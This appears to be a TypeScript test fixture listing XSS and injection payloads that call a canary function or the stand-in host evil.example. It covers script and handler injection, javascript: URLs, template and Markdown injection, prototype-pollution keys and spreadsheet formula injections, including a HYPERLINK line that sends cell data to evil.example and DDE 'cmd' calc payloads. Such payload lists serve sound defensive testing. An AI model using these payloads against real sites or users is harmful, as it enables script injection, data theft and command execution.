/**
 * What somebody writes who wants a page to run it. Each calls `ran`, or asks another origin for something, if it does.
 * They are short enough for every field, and none contains what this desk refuses (a null character).
 */
export const PAYLOADS: readonly string[] = [
  // Elements and handlers
  `<script>ran('script')</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<img src=x onerror=ran('img')>`,
  `<svg onload=ran('svg')>`,
  `<svg><script>ran('svg script')</script></svg>`,
  `<svg><animate onbegin=ran('animate') attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran('mxss')&gt;">`,
  `<details open ontoggle=ran('toggle')>`,
  `<input autofocus onfocus=ran('focus')>`,
  `<video><source onerror=ran('source')></video>`,
  `<!--><img src=x onerror=ran('comment')>`,
  `<noscript><p title="</noscript><img src=x onerror=ran('noscript')>">`,
  // Frames, addresses and forms
  `<iframe srcdoc="<script>parent.ran('srcdoc')</script>"></iframe>`,
  `<iframe src="javascript:parent.ran('frame')"></iframe>`,
  `<object data="javascript:ran('object')"></object>`,
  `<a href="javascript:ran('link')">Open</a>`,
  `javascript:ran('address')`,
  `data:text/html,<script>parent.ran('data')</script>`,
  `<form action="javascript:ran('form')"><button>Send</button></form>`,
  `<meta http-equiv=refresh content="0;url=javascript:ran('refresh')">`,
  `<base href="//evil.example/">`,
  // Out of an attribute, an element or a script
  `"><script>ran('attribute')</script>`,
  `" onmouseover="ran('hover')" autofocus onfocus="ran('autofocus')`,
  `</title></textarea></style><script>ran('raw text')</script>`,
  `</script><script>ran('json in html')</script>`,
  `'-ran('string')-'`,
  `&lt;script&gt;ran('entities')&lt;/script&gt;`,
  `%3Cscript%3Eran('escapes')%3C/script%3E`,
  // Templates and Markdown
  `{{constructor.constructor("ran('braces')")()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else's
  '${ran("template")} <%= ran("erb") %> #{ran("ruby")}',
  `[click](javascript:ran('markdown')) ![x](//evil.example/x.png)`,
  `**<img src=x onerror=ran('bold')>** *<b>em</b>*`,
  // Style
  `<style>@import '//evil.example/x.css';</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<div style="position:fixed;inset:0;background:url(//evil.example/x.png)">`,
  // Names and characters
  `__proto__`,
  `constructor`,
  `{"__proto__":{"ran":"polluted"}}`,
  `\u202e<img src=x onerror=ran('right to left')>\u202c`,
  // Formulas
  `=HYPERLINK("http://evil.example/?"&A1,"x")`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
]
